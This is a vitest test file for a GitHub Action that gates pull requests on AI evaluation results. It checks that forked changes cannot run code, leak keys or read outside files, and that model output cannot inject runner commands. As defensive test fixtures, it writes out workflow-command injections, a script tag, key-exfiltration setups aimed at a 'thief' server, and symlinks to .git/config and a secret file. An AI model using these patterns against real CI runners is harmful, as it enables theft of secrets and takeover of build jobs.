// The bundled action, run as the runner of GitHub does, for every kind of event: what it decides, shows, and never gives away.
import { cpSync, existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { startGithub } from '../../act/github-testing.ts'
import { actionFile, payloads, runAction, type Step } from './action-testing.ts'
import { aigate, removeTemporary, temporary } from '../cli-testing.ts'
import { type Api, clone, commit, edit, git, promptProject, startApi, write } from '../git-testing.ts'

const KEY = 'sk-test-abcdefghijklmnop0123456789'
const TOKEN = 'ghs_tokenOfTheJob0001'
let api: Api
let origin = ''
let base = ''
const closing: (() => void)[] = []

beforeAll(async () => {
  // The terse prompt answers a third of the questions wrongly, with a text that would command the runner.
  api = await startApi(({ system, user }) =>
    system.includes('terse') && Number(user.split(' ')[1]) % 3 === 0
      ? '::error::owned\n##[add-mask]a\n<script>alert(1)</script> @everybody'
      : 'right',
  )
  origin = promptProject(api)
  edit(origin, 'aigate.yaml', 'retries: 0', 'retries: 0, api_key_env: GATE_KEY')
  const { code } = await aigate(['baseline', 'record', '--reason', 'first'], origin, { GATE_KEY: KEY })
  expect(code).toBe(0)
  expect((await aigate(['eval', '--record', '--no-base'], origin, { GATE_KEY: KEY })).code).toBe(0)
  base = commit(origin, 'a baseline and recordings')
})
afterAll(() => {
  api.close()
  for (const close of closing) close()
  removeTemporary()
})

/** A checkout of a change; `worse` asks the terse prompt. */
function checkout(worse = false): string {
  const folder = clone(origin)
  if (worse) edit(folder, 'evals/app.suite.yaml', 'a@1.0.0', 'a@1.1.0')
  else write(folder, 'notes.md', 'a change\n')
  commit(folder, 'a change')
  return folder
}
async function github() {
  const server = await startGithub()
  closing.push(server.close)
  return server
}
const keys = { GATE_KEY: KEY }
const pull = (workspace: string, more: Partial<Step> = {}): Step => ({
  event: 'pull_request',
  payload: payloads.pull_request(base),
  workspace,
  ...more,
  inputs: { frozen: 'false', ...more.inputs },
  env: { GITHUB_BASE_REF: 'main', ...keys, ...more.env },
})
const fromFork = (workspace: string, more: Partial<Step> = {}) =>
  pull(workspace, { payload: payloads.pull_request(base, 'mallory/octo-repo'), ...more })

describe('a pull request', () => {
  it('that is worse is blocked, and told where people look', async () => {
    const { url, comments, sent } = await github()
    const found = await runAction(pull(checkout(true), { api: url }))
    expect(found.code, found.stdout).toBe(1)
    expect(found.outputs).toMatchObject({
      outcome: 'fail',
      'exit-code': '1',
      evaluated: 'true',
      'pass-rate': '0.65',
      delta: '-0.35',
      'comment-url': comments[0]!.html_url,
    })
    expect(Object.keys(found.outputs).toSorted()).toEqual(Object.keys(actionFile.outputs).toSorted())
    for (const kind of ['json', 'junit', 'markdown', 'html'])
      expect(existsSync(found.outputs[`report-${kind}`]!), kind).toBe(true)
    const body = comments[0]!.body
    for (const text of [found.summary, body]) {
      expect(text).toContain('## ❌ aigate: FAIL')
      expect(text).toContain('- prompt: `a@1.0.0` → `a@1.1.0`')
      expect(text).toContain('#### Worse than before (14)')
      expect(text).toContain('commit `ec26c3e57ca3`')
      expect(text).toContain('https://github.com/octo-org/octo-repo/actions/runs/7001')
      expect(text).not.toMatch(/^\s*::|##\[/m)
      // In a fence nobody is called and nothing is markup.
      expect(text.replaceAll(/^```+text\n[^]*?^```+$/gm, '')).not.toMatch(/@everybody|<script/)
    }
    expect(sent[0]!.authorization).toBe(`Bearer ${TOKEN}`)
    const errors = found.commands.filter(({ command }) => command === 'error')
    expect(errors).toHaveLength(10)
    expect(errors[0]!.properties['title']).toBe('aigate: app: FAIL')
    expect(errors[1]!.properties).toMatchObject({ file: 'evals/cases.jsonl', line: expect.stringMatching(/^\d+$/) })
    expect(errors[9]!.data).toContain('6 more annotations')
  })

  it('that is as good passes, and its comment is updated in place', async () => {
    const { url, comments } = await github()
    const folder = checkout()
    expect(await runAction(pull(checkout(true), { api: url }))).toMatchObject({ code: 1 })
    const found = await runAction(pull(folder, { api: url, env: { GITHUB_RUN_ID: '7002' } }))
    expect(found.code, found.stdout).toBe(0)
    expect(found.outputs).toMatchObject({ outcome: 'pass', 'pass-rate': '1', delta: '0' })
    expect(comments).toHaveLength(1)
    expect(comments[0]!.body).toContain('✅ aigate: PASS')
    expect(found.commands.map(({ command }) => command).filter((name) => name !== 'add-mask')).toEqual([])
  })

  it('where the comment is refused says so, and decides the same', async () => {
    const server = await startGithub(() => 403)
    closing.push(server.close)
    const found = await runAction(pull(checkout(), { api: server.url }))
    expect(found.code).toBe(0)
    expect(found.outputs['comment-url']).toBe('')
    expect(found.summary).toContain('aigate: PASS')
    expect(found.commands.find(({ command }) => command === 'notice')?.data).toContain('GitHub answered 403')
  })

  it('comment, summary and annotations can be turned off', async () => {
    const { url, sent } = await github()
    const inputs = { comment: 'false', summary: 'false', annotations: 'false' }
    const found = await runAction(pull(checkout(true), { api: url, inputs }))
    expect(found).toMatchObject({ code: 1, summary: '' })
    expect(sent).toEqual([])
    expect(found.commands.filter(({ command }) => command !== 'add-mask')).toEqual([])
  })
})

describe('no secret gets out', () => {
  it('keys are masked first, and stand in no file, and the gate sees no token of the job', async () => {
    const { url, comments } = await github()
    const found = await runAction(pull(checkout(true), { api: url }))
    expect(found.commands.slice(0, 2)).toEqual([
      { command: 'add-mask', properties: {}, data: KEY },
      { command: 'add-mask', properties: {}, data: TOKEN },
    ])
    const rest = found.stdout.split('\n').slice(2).join('\n')
    const files = ['json', 'junit', 'markdown', 'html'].map((kind) =>
      readFileSync(found.outputs[`report-${kind}`]!, 'utf8'),
    )
    for (const text of [rest, found.stderr, found.summary, comments[0]!.body, ...files]) {
      expect(text).not.toContain(KEY)
      expect(text).not.toContain(TOKEN)
    }
    expect(found.settings).toBe('')
  })

  it('code of a suite commands no runner, sees no token and no file of the runner', async () => {
    const folder = temporary()
    write(folder, 'aigate.yaml', 'version: 1\ngate: {max_regression: false, min_pass_rate: 0.5}\n')
    write(
      folder,
      'app.mjs',
      `const seen = Object.keys(process.env).filter((name) => /^(INPUT_|ACTIONS_|GITHUB_(TOKEN|ENV|PATH|OUTPUT|STATE|STEP_SUMMARY))/.test(name))
process.stdout.write('::error::owned\\n  ::add-mask::a\\r::set-output name=x::y\\u2028::stop-commands::x\\nfine ##[add-mask]e\\n')
process.stderr.write('\\u001b[31m::warning::owned\\u001b[0m\\n' + 'x'.repeat(1_000_000) + '##[error]z\\n')
export default () => 'seen ' + seen.join(',')
`,
    )
    const suite =
      'suite: app\nversion: 1.0.0\ntarget: {module: ../app.mjs}\ntrials: 1\ncases: [{id: c1, assert: [{equals: "seen "}]}]\n'
    write(folder, 'evals/app.suite.yaml', suite)
    write(folder, '.gitignore', '.aigate/\n')
    git(folder, 'init', '-q', '-b', 'main')
    commit(folder, 'all')
    const step = { event: 'push', payload: payloads.push(base), workspace: folder, inputs: { base: 'none' } }
    const found = await runAction({ ...step, env: { ACTIONS_RUNTIME_TOKEN: 'x', GITHUB_TOKEN: TOKEN } })
    expect(found.code, found.stdout.slice(0, 3000)).toBe(0)
    expect(found.commands).toEqual([{ command: 'add-mask', properties: {}, data: TOKEN }])
    expect(found.stdout.length).toBeLessThan(60_000)
    expect(found.stdout).toContain('characters left out')
  })
})

describe('a fork', () => {
  it('without secrets is not evaluated: exit 4, and nothing passes silently', async () => {
    const { url, comments } = await github()
    const before = api.asked.length
    const found = await runAction(fromFork(checkout(), { api: url, env: { GATE_KEY: '' } }))
    expect(found.code).toBe(4)
    expect(found.outputs).toMatchObject({ outcome: 'invalid', 'exit-code': '4', evaluated: 'false', 'pass-rate': '' })
    expect(found.summary).toContain('not evaluated')
    expect(found.summary).toContain('GATE\\_KEY is not set, as a fork gets no secrets')
    expect(comments[0]!.body).toContain('merge queue')
    expect(api.asked).toHaveLength(before)
  })

  it('by policy gets the offline part, which says that it is no evidence', async () => {
    const folder = checkout()
    const inputs = { 'on-missing-secrets': 'offline' }
    const before = api.asked.length
    const found = await runAction(fromFork(folder, { inputs, env: { GATE_KEY: '' } }))
    expect(found.code, found.stdout).toBe(0)
    expect(found.outputs).toMatchObject({ outcome: 'pass', evaluated: 'false' })
    expect(found.summary).toContain('This is no evidence about the model')
    expect(found.commands.find(({ command }) => command === 'warning')?.data).toContain('replayed from recordings')
    expect(api.asked).toHaveLength(before)
  })

  it('without recordings is not evaluated, by that policy either; and a wrong file is told', async () => {
    const inputs = { 'on-missing-secrets': 'offline' }
    const bare = checkout(true)
    const none = await runAction(fromFork(bare, { inputs, env: { GATE_KEY: '' } }))
    expect(none.code, none.stdout).toBe(4)
    const folder = checkout()
    edit(folder, 'evals/app.suite.yaml', 'trials: 1', 'trails: 1')
    const wrong = await runAction(fromFork(folder, { inputs, env: { GATE_KEY: '' } }))
    expect(wrong.code).toBe(2)
    expect(wrong.summary).toContain('trails')
  })

  const run = { name: 'command', text: 'target: {command: [node, ../steal.mjs]}' }
  const load = { name: 'module', text: 'target: {module: ../steal.mjs}' }
  describe.each([run, load])('with a $name target', ({ text }) => {
    it.each(['pull_request_target', 'pull_request'])('is never run where the keys are (%s)', async (event) => {
      const folder = checkout()
      const mark = join(folder, 'stolen')
      write(
        folder,
        'steal.mjs',
        `import { writeFileSync } from 'node:fs'\nwriteFileSync(${JSON.stringify(mark)}, 'x')\nexport default () => 'right'\n`,
      )
      edit(folder, 'evals/app.suite.yaml', 'target: {prompt: a@1.0.0, model: main}', text)
      commit(folder, 'mine')
      for (const policy of ['fail', 'offline']) {
        const found = await runAction(fromFork(folder, { event, inputs: { 'on-missing-secrets': policy } }))
        expect(found.code).toBe(4)
        expect(found.summary).toContain('runs code of this change')
        expect(existsSync(mark)).toBe(false)
      }
    })
  })

  it('with an assertion that is code, or a secret that no configuration names, is not run either', async () => {
    const folder = checkout()
    const mark = join(folder, 'stolen')
    write(
      folder,
      'evals/steal.mjs',
      `import { writeFileSync } from 'node:fs'\nwriteFileSync(${JSON.stringify(mark)}, 'x')\nexport default () => ({ passed: true })\n`,
    )
    edit(folder, 'evals/app.suite.yaml', 'assert: [{contains: right}]', 'assert: [{module: {path: ./steal.mjs}}]')
    commit(folder, 'mine')
    const found = await runAction(fromFork(folder, { env: { GATE_KEY: '', SLACK_TOKEN: 'xoxb-1' } }))
    expect(found.code).toBe(4)
    expect(found.summary).toContain('assertion module')
    expect(existsSync(mark)).toBe(false)
  })

  it.each([
    ['an assertion of a turn', 'turns: [{user: hello, assert: [{module: {path: ./steal.mjs}}]}]', 'assertion module'],
    ['a program behind a tool', 'tools: {look: {command: [node, evals/steal.mjs]}}', 'tool look'],
    ['a module behind a tool', 'tools: {look: {module: ./steal.mjs}}', 'tool look'],
  ])('with code in %s is not run either', async (_, line, told) => {
    const folder = checkout()
    const mark = join(folder, 'stolen')
    write(
      folder,
      'evals/steal.mjs',
      `import { writeFileSync } from 'node:fs'\nwriteFileSync(${JSON.stringify(mark)}, 'x')\nexport default () => ({ passed: true })\n`,
    )
    edit(folder, 'evals/app.suite.yaml', 'model: main}', 'model: main, tools: [{name: look}]}')
    edit(folder, 'evals/app.suite.yaml', 'cases_from:', `cases: [{id: mine, vars: {q: q}, ${line}}]\ncases_from:`)
    commit(folder, 'mine')
    const found = await runAction(fromFork(folder, { event: 'pull_request_target' }))
    expect(found.code, found.stdout).toBe(4)
    expect(found.summary).toContain(told)
    expect(existsSync(mark)).toBe(false)
  })

  const judge = 'judges: {default: {model: thief}}'
  it.each([
    ['a judge', judge, 'assert: [{contains: right}, {rubric: kind}]'],
    ['embeddings', 'embeddings: thief', 'assert: [{similar: {to: right, method: cosine}}]'],
    [
      'a simulated user',
      '',
      'assert: [{contains: right}]\ncases: [{id: mine, vars: {q: q}, user: {model: thief, goal: a refund}}]',
    ],
  ])('cannot send the key to the address of %s', async (_, config, assert) => {
    const thief = await startApi(() => 'right')
    closing.push(() => thief.close())
    const folder = checkout()
    const provider = `  own: {type: openai, base_url: "${thief.url}", api_key_env: GATE_KEY}\n`
    edit(folder, 'aigate.yaml', 'models:\n', `${provider}models:\n  thief: {provider: own, id: m-2026-01-01}\n`)
    if (config !== '') write(folder, 'aigate.yaml', `${readFileSync(join(folder, 'aigate.yaml'), 'utf8')}${config}\n`)
    edit(folder, 'evals/app.suite.yaml', 'assert: [{contains: right}]', assert)
    commit(folder, 'mine')
    const found = await runAction(fromFork(folder, { event: 'pull_request_target' }))
    expect(found.code, found.stdout).toBe(4)
    expect(found.summary).toContain('provider own of suite app is not the one that the base has')
    expect(thief.asked).toEqual([])
  })

  it('spends no more than the base allows, whatever it writes down', async () => {
    const folder = checkout()
    git(folder, 'checkout', '-q', '-B', 'bounded', 'origin/main')
    edit(folder, 'aigate.yaml', /^models:/m, 'budget: {max_calls: 4, max_duration: 1h}\nmodels:')
    const bounded = commit(folder, 'a budget')
    edit(folder, 'aigate.yaml', 'max_calls: 4', 'max_calls: 100000')
    edit(folder, 'evals/app.suite.yaml', 'trials: 1', 'trials: 9')
    commit(folder, 'mine')
    const before = api.asked.length
    const payload = payloads.pull_request(bounded, 'mallory/octo-repo')
    const inputs = { base: bounded }
    const found = await runAction(pull(folder, { event: 'pull_request_target', payload, inputs }))
    expect(found.code, found.stdout).toBe(4)
    expect(api.asked.length - before).toBe(4)
  })

  it.each(['out of the repository', 'into .git'])('cannot have a file read %s', async (where) => {
    const folder = checkout()
    const secret = join(temporary(), 'secret.csv')
    writeFileSync(secret, 'crown-jewels\nof nobody\n')
    git(folder, 'config', 'http.extraheader', 'AUTHORIZATION: basic crown-jewels')
    symlinkSync(where === 'into .git' ? '../.git/config' : secret, join(folder, 'evals/more.csv'))
    edit(folder, 'evals/app.suite.yaml', '[cases.jsonl]', '[cases.jsonl, more.csv]')
    commit(folder, 'mine')
    const found = await runAction(fromFork(folder, { event: 'pull_request_target' }))
    expect(found.code, found.stdout).toBe(4)
    expect(found.summary).toContain('evals/more.csv is a link that leads out of the repository')
    expect(found.stdout + found.summary).not.toContain('crown-jewels')
  })

  it('cannot send the key to an address of its own', async () => {
    const thief = await startApi(() => 'right')
    closing.push(() => thief.close())
    const folder = checkout()
    edit(folder, 'aigate.yaml', api.url, thief.url)
    commit(folder, 'mine')
    const found = await runAction(fromFork(folder, { event: 'pull_request_target' }))
    expect(found.code).toBe(4)
    expect(found.summary).toContain('is not the one that the base has')
    expect(thief.asked).toEqual([])
  })

  it('cannot send the key to an address in its suite', async () => {
    const thief = await startApi(() => 'right')
    closing.push(() => thief.close())
    const folder = checkout()
    const http = `target: {http: {url: "${thief.url}", headers: {authorization: "Bearer \${GATE_KEY}"}, body: {model: m, messages: []}}}`
    edit(folder, 'evals/app.suite.yaml', 'target: {prompt: a@1.0.0, model: main}', http)
    commit(folder, 'mine')
    const found = await runAction(fromFork(folder))
    expect(found.code).toBe(4)
    expect(found.summary).toContain('asks an address that this change names')
    expect(thief.asked).toEqual([])
  })

  it('that was deleted is a fork; with the keys and the address of the base its prompt is evaluated', async () => {
    const gone = { payload: payloads.pull_request(base, null), env: { GATE_KEY: '' } }
    expect((await runAction(pull(checkout(), gone))).summary).toContain('as a fork gets no secrets')
    const found = await runAction(fromFork(checkout(true), { event: 'pull_request_target' }))
    expect(found.code, found.stdout).toBe(1)
  })
})

describe('a checkout that is not the change', () => {
  const tip = () => git(origin, 'rev-parse', 'main')
  it.each([
    ['pull_request_target', 'Use the event'],
    ['pull_request', 'Leave the input ref out'],
  ])('of the base, as %s makes it or a ref asks for it, is not evaluated as if it were', async (event, mend) => {
    const { url, comments } = await github()
    const folder = clone(origin)
    const found = await runAction(pull(folder, { event, api: url, env: { GITHUB_SHA: tip() } }))
    expect(found.code, found.stdout).toBe(4)
    expect(found.outputs).toMatchObject({ outcome: 'invalid', evaluated: 'false' })
    expect(comments[0]!.body).toContain('is the base branch and not the change')
    expect(comments[0]!.body).toContain(mend)
    // Nor is it a change that touches nothing.
    const inputs = { 'relevant-paths': 'src/**' }
    expect(await runAction(pull(folder, { event, inputs, env: { GITHUB_SHA: tip() } }))).toMatchObject({ code: 4 })
  })
  it('a merge of the change with the tip of the base is the change, in a shallow clone too', async () => {
    const folder = checkout(true)
    const head = git(folder, 'rev-parse', 'HEAD')
    git(folder, 'checkout', '-q', '--detach', 'origin/main')
    git(folder, 'merge', '-q', '--no-ff', '--no-edit', head)
    const payload = payloads.pull_request(base)
    payload.pull_request.head.sha = head
    for (const event of ['pull_request', 'pull_request_target'])
      expect(await runAction(pull(folder, { event, payload, inputs: { comment: 'false' } }))).toMatchObject({ code: 1 })
    const shallow = join(temporary(), 'shallow')
    git(folder, 'clone', '-q', '--depth', '1', `file://${folder}`, shallow)
    const found = await runAction(pull(shallow, { payload, inputs: { comment: 'false' } }))
    // Without the base there is nothing to be held against; it is not mistaken for the base itself.
    expect(found.code, found.stdout).toBe(2)
    expect(found.summary).not.toContain('is the base branch')
  })
})

it('jobs of a matrix that evaluate other things keep a comment each, and steps keep their reports apart', async () => {
  const { url, comments } = await github()
  const folder = checkout()
  const found = await runAction(pull(folder, { api: url }))
  const other = await runAction(
    pull(folder, { api: url, inputs: { suites: 'app' }, env: { GITHUB_ACTION: '__self_2' } }),
  )
  expect(await runAction(pull(folder, { api: url, inputs: { suites: 'app' } }))).toMatchObject({ code: 0 })
  expect(comments).toHaveLength(3)
  expect([found, other].map(({ outputs }) => outputs['reports']!.split('/').at(-1))).toEqual(['__self', '__self_2'])
})

it('a rate over a part of the cases is no output', async () => {
  const folder = checkout()
  edit(folder, 'aigate.yaml', /^models:/m, 'budget: {max_calls: 3}\nmodels:')
  const inputs = { base: 'none', baseline: 'none', comment: 'false' }
  const found = await runAction(pull(folder, { inputs }))
  expect(found.code, found.stdout).toBe(4)
  expect(found.outputs).toMatchObject({ outcome: 'invalid', 'pass-rate': '', delta: '' })
})

it('a folder for reports that cannot be one is told in a sentence', async () => {
  const found = await runAction(pull(checkout(), { inputs: { 'reports-folder': 'aigate.yaml' } }))
  expect(found.code).toBe(2)
  expect(found.summary).toContain('No reports can be written')
  expect(found.stdout).not.toContain('fault of aigate')
})

it('a report that says pass is not shown where the gate failed after it', async () => {
  const { url, comments } = await github()
  const folder = checkout()
  // The last report of all cannot be written: its folder goes while the answers come.
  const inputs = { reporters: 'ctrf:late/ctrf.json' }
  mkdirSync(join(folder, 'late'))
  write(folder, 'app.mjs', "import { rmSync, writeFileSync } from 'node:fs'\nrmSync('late', { recursive: true, force: true })\nwriteFileSync('late', '')\nexport default () => 'right'\n") // biome-ignore format: one call
  edit(folder, 'evals/app.suite.yaml', 'target: {prompt: a@1.0.0, model: main}', 'target: {module: ../app.mjs}')
  const found = await runAction(pull(folder, { api: url, inputs: { ...inputs, base: 'none', baseline: 'none' } }))
  expect(found.code, found.stdout).not.toBe(0)
  for (const text of [found.summary, comments[0]!.body]) expect(text).not.toContain('PASS')
  expect(found.outputs['outcome']).not.toBe('pass')
})

describe('every other event', () => {
  it('merge_group compares with what the queue builds on', async () => {
    const folder = checkout(true)
    git(folder, 'remote', 'remove', 'origin')
    git(folder, 'branch', '-D', 'main')
    const step = { event: 'merge_group', payload: payloads.merge_group(base), workspace: folder, env: keys }
    const found = await runAction({ ...step, inputs: { frozen: 'false' } })
    expect(found.code, found.stdout).toBe(1)
    expect(found.outputs['comment-url']).toBe('')
  })
  it.each([
    ['push', payloads.push('0'.repeat(40))],
    ['schedule', payloads.schedule()],
    ['workflow_dispatch', payloads.workflow_dispatch()],
  ])('%s decides and comments nowhere', async (event, payload) => {
    const { url, sent } = await github()
    const found = await runAction({
      event,
      payload,
      workspace: checkout(),
      env: keys,
      inputs: { frozen: 'false' },
      api: url,
    })
    expect(found.code, found.stdout).toBe(0)
    expect(found.summary).toContain('aigate: PASS')
    expect(sent).toEqual([])
  })
  it('a missing key is told by name where it is nobody’s fork', async () => {
    const found = await runAction({ event: 'push', payload: payloads.push(base), workspace: checkout() })
    expect(found.code).toBe(4)
    expect(found.commands[1]).toMatchObject({
      command: 'error',
      data: expect.stringContaining('Set it under env of the step'),
    })
  })
})

it('the token of the job is a key where the configuration says so, and the records lie where they are wanted', async () => {
  const folder = checkout()
  edit(folder, 'aigate.yaml', 'GATE_KEY', 'GITHUB_TOKEN')
  const inputs = { frozen: 'false', base: 'none', 'cache-folder': 'kept', suites: 'app', trials: '1' }
  const step = { event: 'push', payload: payloads.push(base), workspace: folder, inputs }
  const found = await runAction({ ...step, env: { GITHUB_TOKEN: TOKEN } })
  expect(found.code, found.stdout).toBe(0)
  expect(found.outputs['cache-path']).toBe(join(folder, 'kept'))
  expect(found.outputs['cache-key']).toMatch(/^aigate-[0-9a-f]{16}-7001$/)
  expect(existsSync(join(folder, 'kept', 'runs', found.outputs['run-id']!))).toBe(true)
})

describe('what is written wrongly is exit 2 with a place', () => {
  it('in a suite', async () => {
    const folder = checkout()
    edit(folder, 'evals/app.suite.yaml', 'trials: 1', 'trails: 1')
    const found = await runAction(pull(folder, { inputs: { comment: 'false' } }))
    expect(found.code).toBe(2)
    expect(found.outputs).toMatchObject({ outcome: 'usage' })
    expect(found.commands.at(-1)).toMatchObject({
      command: 'error',
      properties: { file: 'evals/app.suite.yaml', line: expect.any(String) },
      data: expect.stringContaining('trails'),
    })
  })
  it.each([
    [{ comment: 'yes' }, 'The input comment of the action is "yes".'],
    [{ 'on-missing-secrets': 'skip' }, 'Write fail or offline.'],
    [{ suites: 'app --no-base' }, 'every option has an input of its own'],
    [{ threshold: '2' }, 'is no rate'],
    [{ 'working-directory': 'nowhere' }, 'nowhere'],
  ])('in an input: %j', async (inputs, sentence) => {
    const found = await runAction(pull(checkout(), { inputs }))
    expect(found.code, found.stdout).toBe(2)
    expect(found.outputs['outcome']).toBe('usage')
    expect(found.commands.some(({ command, data }) => command === 'error' && data.includes(sentence))).toBe(true)
    expect(found.summary).not.toBe('')
  })
})

it('a project below the workspace: annotations have the path from the top', async () => {
  const inner = checkout(true)
  const folder = temporary()
  cpSync(inner, folder, { recursive: true })
  // As a monorepo: everything moves one folder down.
  git(folder, 'checkout', '-q', 'main')
  for (const name of ['aigate.yaml', 'prompts', 'evals', 'baselines', '.gitignore']) {
    write(folder, 'services/keep', '')
    git(folder, 'mv', name, `services/${name}`)
  }
  commit(folder, 'moved')
  git(folder, 'update-ref', 'refs/remotes/origin/main', 'HEAD')
  git(folder, 'checkout', '-qB', 'change')
  edit(folder, 'services/evals/app.suite.yaml', 'a@1.0.0', 'a@1.1.0')
  commit(folder, 'shorter')
  const found = await runAction(pull(folder, { inputs: { 'working-directory': 'services' } }))
  expect(found.code, found.stdout).toBe(1)
  const errors = found.commands.filter(({ command }) => command === 'error')
  expect(errors[1]!.properties['file']).toBe('services/evals/cases.jsonl')
})
